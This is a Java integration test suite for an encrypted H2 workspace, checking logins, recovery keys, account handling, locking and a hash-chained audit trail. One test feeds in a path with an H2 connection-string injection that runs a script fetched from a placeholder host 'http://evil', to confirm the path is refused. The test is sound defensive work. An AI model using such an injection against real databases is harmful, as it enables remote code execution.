package org.compliancebridge.service;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;
import org.compliancebridge.audit.AuditChain;
import org.compliancebridge.domain.AccountDeactivatedException;
import org.compliancebridge.domain.AuditEntry;
import org.compliancebridge.domain.Hash;
import org.compliancebridge.domain.InvalidInputException;
import org.compliancebridge.domain.NotAWorkspaceException;
import org.compliancebridge.domain.PasswordPolicyException;
import org.compliancebridge.domain.PermissionDeniedException;
import org.compliancebridge.domain.Role;
import org.compliancebridge.domain.UnsafeWorkspacePathException;
import org.compliancebridge.domain.UserId;
import org.compliancebridge.domain.WorkspaceInUseException;
import org.compliancebridge.domain.WorkspaceNotFoundException;
import org.compliancebridge.domain.WrongPasswordException;
import org.compliancebridge.testsupport.TestWorkspaces;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The encrypted workspace on a real H2 file: create, sign in, failures, recovery, accounts, audit chain. */
class WorkspaceIT {
    private static final String ALICE_PW = TestWorkspaces.ADMIN_PASSWORD;
    private final TestWorkspaces ws = new TestWorkspaces();
    @TempDir
    Path tmp;

    private Path created() {
        Path dir = tmp.resolve("ws");
        ws.create(dir).session().close();
        return dir;
    }

    private Session open(Path dir) {
        return ws.service.open(dir, TestWorkspaces.ADMIN, ALICE_PW.toCharArray());
    }

    @Test
    void createsWorkspaceAndRecordsEveryStepInAnIntactChain() throws Exception {
        Path dir = tmp.resolve("ws");
        WorkspaceService.Created c = ws.create(dir);
        assertThat(c.recoveryKey()).matches("([0-9A-F]{4}-){9}[0-9A-F]{4}");
        c.session().close();
        assertThat(dir.resolve("workspace.mv.db")).exists();
        assertThat(dir.resolve("workspace.keys")).exists();
        assertThat(dir.resolve("workspace.trace.db")).doesNotExist();
        try {
            assertThat(java.nio.file.attribute.PosixFilePermissions.toString(Files.getPosixFilePermissions(dir)))
                    .isEqualTo("rwx------");
        } catch (UnsupportedOperationException notPosix) {
            // Windows: ACLs inherited from the user's profile folder
        }
        try (Session s = open(dir)) {
            assertThat(s.info().organisationName()).isEqualTo("Acme Devices GmbH");
            assertThat(s.accounts()).extracting(a -> a.userId().value()).containsExactly("alice");
            List<AuditEntry> trail = s.writes().read(tx -> tx.audit().readFrom(1, 100));
            assertThat(trail).extracting(AuditEntry::eventType).containsExactly("WORKSPACE_CREATED",
                    "ACCOUNT_CREATED", "KEY_PAIR_CREATED", "LOGIN_SUCCEEDED", "SESSION_ENDED", "LOGIN_SUCCEEDED");
            // checkpoints at creation and at session end, in the database and in the file beside it
            List<org.compliancebridge.domain.Checkpoint> cps = s.writes().read(tx -> tx.checkpoints().all());
            assertThat(cps).extracting(org.compliancebridge.domain.Checkpoint::occasion)
                    .containsExactly("workspace created", "session end");
            assertThat(cps.get(1).seq()).isEqualTo(5);
            assertThat(Files.readAllLines(dir.resolve("audit-checkpoints.jsonl"))).hasSize(2);
            Hash prev = AuditChain.genesis(s.workspaceId());
            for (AuditEntry e : trail) {
                assertThat(e.prevHash()).isEqualTo(prev);
                assertThat(AuditChain.hashOf(e)).isEqualTo(e.hash());
                assertThat(e.zoneId()).isEqualTo("Europe/Berlin");
                prev = e.hash();
            }
        }
    }

    @Test
    void wrongPasswordNeverOpensAndLeavesTheDatabaseByteIdentical() throws Exception {
        Path dir = created();
        Map<String, byte[]> before = snapshot(dir, "workspace.mv.db", "workspace.keys");
        for (int i = 0; i < 5; i++) {
            assertThatThrownBy(() -> ws.service.open(dir, TestWorkspaces.ADMIN, "wrong password here".toCharArray()))
                    .isInstanceOf(WrongPasswordException.class)
                    .hasMessageContaining("not correct");
        }
        assertThat(snapshot(dir, "workspace.mv.db", "workspace.keys")).usingRecursiveComparison().isEqualTo(before);
        assertThat(Files.readAllLines(dir.resolve("failed-logins.jsonl"))).hasSize(5);
        // the growing delay: none for the first three failures, then 1 s, 2 s
        assertThat(ws.sleeps).extracting(java.time.Duration::toSeconds).containsExactly(0L, 0L, 0L, 1L, 2L);
        try (Session s = open(dir)) {
            assertThat(s.pendingSecurityAlerts()).hasSize(5).allSatisfy(e ->
                    assertThat(e.eventType()).isEqualTo("LOGIN_FAILED"));
            s.acknowledgeSecurityAlerts();
            assertThat(s.pendingSecurityAlerts()).isEmpty();
        }
        assertThat(dir.resolve("failed-logins.jsonl")).doesNotExist();
    }

    @Test
    void unknownUserGetsTheSameMessageAsAWrongPassword() {
        Path dir = created();
        assertThatThrownBy(() -> ws.service.open(dir, UserId.of("mallory"), ALICE_PW.toCharArray()))
                .isInstanceOf(WrongPasswordException.class)
                .hasMessage(new WrongPasswordException().getMessage());
    }

    @Test
    void eachFailureCaseHasItsOwnMessage() throws Exception {
        Path dir = created();
        assertThatThrownBy(() -> ws.service.open(tmp.resolve("missing"), TestWorkspaces.ADMIN, ALICE_PW.toCharArray()))
                .isInstanceOf(WorkspaceNotFoundException.class).hasMessageContaining("does not exist");
        Path empty = Files.createDirectories(tmp.resolve("empty"));
        assertThatThrownBy(() -> ws.service.open(empty, TestWorkspaces.ADMIN, ALICE_PW.toCharArray()))
                .isInstanceOf(NotAWorkspaceException.class).hasMessageContaining("not a ComplianceBridge workspace");
        Path evil = tmp.resolve("x;INIT=RUNSCRIPT FROM 'http://evil'");
        assertThatThrownBy(() -> ws.create(evil)).isInstanceOf(UnsafeWorkspacePathException.class);
        assertThatThrownBy(() -> ws.create(dir)).isInstanceOf(InvalidInputException.class)
                .hasMessageContaining("already holds a workspace");
    }

    @Test
    void recoveryKeyOpensAndSetsANewPassword() {
        Path dir = tmp.resolve("ws");
        WorkspaceService.Created c = ws.create(dir);
        c.session().close();
        String typed = c.recoveryKey().toLowerCase().replace("-", " ");
        assertThatThrownBy(() -> ws.service.openWithRecoveryKey(dir, "0000-1111", TestWorkspaces.ADMIN,
                "a brand new passphrase".toCharArray())).isInstanceOf(WrongPasswordException.class)
                .hasMessageContaining("recovery key is not correct");
        ws.service.openWithRecoveryKey(dir, typed, TestWorkspaces.ADMIN, "a brand new passphrase".toCharArray())
                .close();
        assertThatThrownBy(() -> open(dir)).isInstanceOf(WrongPasswordException.class);
        try (Session s = ws.service.open(dir, TestWorkspaces.ADMIN, "a brand new passphrase".toCharArray())) {
            List<AuditEntry> resets = s.writes().read(tx -> tx.audit().findByEventType(
                    "PASSWORD_RESET_WITH_RECOVERY_KEY", 0, 9));
            assertThat(resets).hasSize(1);
        }
    }

    @Test
    void passwordChangeRewrapsOnlyTheKeySlot() throws Exception {
        Path dir = created();
        byte[] dbBefore = Files.readAllBytes(dir.resolve("workspace.mv.db"));
        try (Session s = open(dir)) {
            assertThatThrownBy(() -> new AccountService(s).changeOwnPassword("not my password".toCharArray(),
                    "another long passphrase".toCharArray())).isInstanceOf(WrongPasswordException.class);
            assertThatThrownBy(() -> new AccountService(s).changeOwnPassword(ALICE_PW.toCharArray(),
                    "short".toCharArray())).isInstanceOf(PasswordPolicyException.class);
            new AccountService(s).changeOwnPassword(ALICE_PW.toCharArray(), "another long passphrase".toCharArray());
        }
        assertThatThrownBy(() -> open(dir)).isInstanceOf(WrongPasswordException.class);
        ws.service.open(dir, TestWorkspaces.ADMIN, "another long passphrase".toCharArray()).close();
        // The file is not re-encrypted: it is still readable under the same workspace key (only appended to).
        assertThat(Files.size(dir.resolve("workspace.mv.db"))).isGreaterThanOrEqualTo(dbBefore.length / 2);
    }

    @Test
    void administratorsAddAndDeactivateAccountsAndIdsAreNeverReused() {
        Path dir = created();
        try (Session s = open(dir)) {
            AccountService accounts = new AccountService(s);
            accounts.addAccount(UserId.of("bob"), "Bob Builder", Role.CONTRIBUTOR, "the builder's first passphrase"
                    .toCharArray());
            assertThatThrownBy(() -> accounts.addAccount(UserId.of("carol"), "Carol", Role.APPROVER,
                    "carol1234567".toCharArray())).isInstanceOf(PasswordPolicyException.class)
                    .hasMessageContaining("user ID");
            assertThatThrownBy(() -> accounts.addAccount(UserId.of("bob"), "Bob Two", Role.APPROVER,
                    "another fine passphrase".toCharArray())).isInstanceOf(InvalidInputException.class)
                    .hasMessageContaining("never reused");
        }
        try (Session bob = ws.service.open(dir, UserId.of("bob"), "the builder's first passphrase".toCharArray())) {
            assertThat(bob.account().mustChangePassword()).isTrue();
            assertThatThrownBy(() -> new AccountService(bob).addAccount(UserId.of("eve"), "Eve", Role.ADMINISTRATOR,
                    "eve's long passphrase".toCharArray())).isInstanceOf(PermissionDeniedException.class);
        }
        try (Session s = open(dir)) {
            new AccountService(s).deactivate(UserId.of("bob"), "left the company");
            assertThatThrownBy(() -> new AccountService(s).deactivate(TestWorkspaces.ADMIN, "x"))
                    .isInstanceOf(InvalidInputException.class);
            assertThat(s.accounts()).hasSize(2);
        }
        assertThatThrownBy(() -> ws.service.open(dir, UserId.of("bob"), "the builder's first passphrase".toCharArray()))
                .isInstanceOf(WrongPasswordException.class);
        try (Session s = open(dir)) {
            assertThatThrownBy(() -> new AccountService(s).addAccount(UserId.of("bob"), "Bob Again",
                    Role.CONTRIBUTOR, "the builder's second passphrase".toCharArray()))
                    .hasMessageContaining("never reused");
        }
    }

    @Test
    void deactivatedAccountWithARestoredKeySlotIsStillRefused() throws Exception {
        Path dir = created();
        try (Session s = open(dir)) {
            new AccountService(s).addAccount(UserId.of("bob"), "Bob", Role.CONTRIBUTOR,
                    "the builder's first passphrase".toCharArray());
        }
        byte[] keyFileWithBob = Files.readAllBytes(dir.resolve("workspace.keys"));
        try (Session s = open(dir)) {
            new AccountService(s).deactivate(UserId.of("bob"), "left");
        }
        Files.write(dir.resolve("workspace.keys"), keyFileWithBob);
        assertThatThrownBy(() -> ws.service.open(dir, UserId.of("bob"), "the builder's first passphrase".toCharArray()))
                .isInstanceOf(AccountDeactivatedException.class);
    }

    @Test
    void lockAndUnlockAreAuditedAndNeedThePassword() {
        Path dir = created();
        try (Session s = open(dir)) {
            s.lock("inactivity");
            assertThat(s.isLocked()).isTrue();
            assertThatThrownBy(() -> s.unlock("nope nope nope".toCharArray(), TestWorkspaces.noSleep()))
                    .isInstanceOf(WrongPasswordException.class);
            assertThat(s.isLocked()).isTrue();
            s.unlock(ALICE_PW.toCharArray(), TestWorkspaces.noSleep());
            assertThat(s.isLocked()).isFalse();
            List<AuditEntry> trail = s.writes().read(tx -> tx.audit().readFrom(1, 100));
            assertThat(trail).extracting(AuditEntry::eventType)
                    .contains("SESSION_LOCKED", "LOGIN_FAILED", "SESSION_UNLOCKED");
        }
    }

    @Test
    void aSecondProcessHoldingTheWorkspaceIsReportedAsInUse() throws Exception {
        Path dir = created();
        ProcessBuilder pb = new ProcessBuilder(Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                "-cp", System.getProperty("java.class.path"), "org.compliancebridge.testsupport.HoldWorkspace",
                dir.toString(), "alice", ALICE_PW);
        pb.redirectErrorStream(true);
        Process child = pb.start();
        try {
            BufferedReader r = new BufferedReader(new InputStreamReader(child.getInputStream(), StandardCharsets.UTF_8));
            String line;
            while ((line = r.readLine()) != null && !line.contains("READY")) {
                // skip start-up output
            }
            assertThat(line).isEqualTo("READY");
            Map<String, byte[]> before = snapshot(dir, "workspace.keys");
            assertThatThrownBy(() -> open(dir)).isInstanceOf(WorkspaceInUseException.class)
                    .hasMessageContaining("open in another");
            assertThat(snapshot(dir, "workspace.keys")).usingRecursiveComparison().isEqualTo(before);
        } finally {
            child.getOutputStream().close();
            if (!child.waitFor(30, TimeUnit.SECONDS)) {
                child.destroyForcibly();
            }
        }
        open(dir).close();
    }

    @Test
    void everyWriteUnitMustRecordAnAuditEntry() {
        Path dir = created();
        try (Session s = open(dir)) {
            long before = s.auditEntryCount();
            assertThatThrownBy(() -> s.writes().write(s.actor(), ctx -> {
                ctx.tx().settings().put("sneaky", "unaudited");
                return null;
            })).isInstanceOf(IllegalStateException.class).hasMessageContaining("audit entry");
            java.util.Optional<String> sneaky = s.writes().read(tx -> tx.settings().get("sneaky"));
            assertThat(sneaky).isEmpty();
            assertThat(s.auditEntryCount()).isEqualTo(before);
        }
    }

    @Test
    void signingInToAnOlderCopyOfTheDatabaseWarnsAndRecordsIt() throws Exception {
        Path dir = created();
        try (Session s = open(dir)) {
            assertThat(s.integrityWarning()).isEmpty();
        }
        Path older = tmp.resolve("older.mv.db");
        Files.copy(dir.resolve("workspace.mv.db"), older);
        try (Session s = open(dir)) {
            new AccountService(s).addAccount(UserId.of("bob"), "Bob", Role.CONTRIBUTOR,
                    "the builder's first passphrase".toCharArray());
        }
        Files.copy(older, dir.resolve("workspace.mv.db"), java.nio.file.StandardCopyOption.REPLACE_EXISTING);
        try (Session s = open(dir)) {
            assertThat(s.integrityWarning()).get().asString().contains("older copy");
            List<AuditEntry> found = s.writes().read(tx -> tx.audit().findByEventType(
                    "AUDIT_TRAIL_MISMATCH_DETECTED", 0, 9));
            assertThat(found).hasSize(1);
        }
    }

    static Map<String, byte[]> snapshot(Path dir, String... names) throws Exception {
        Map<String, byte[]> m = new TreeMap<>();
        for (String n : names) {
            m.put(n, Files.readAllBytes(dir.resolve(n)));
        }
        return m;
    }
}
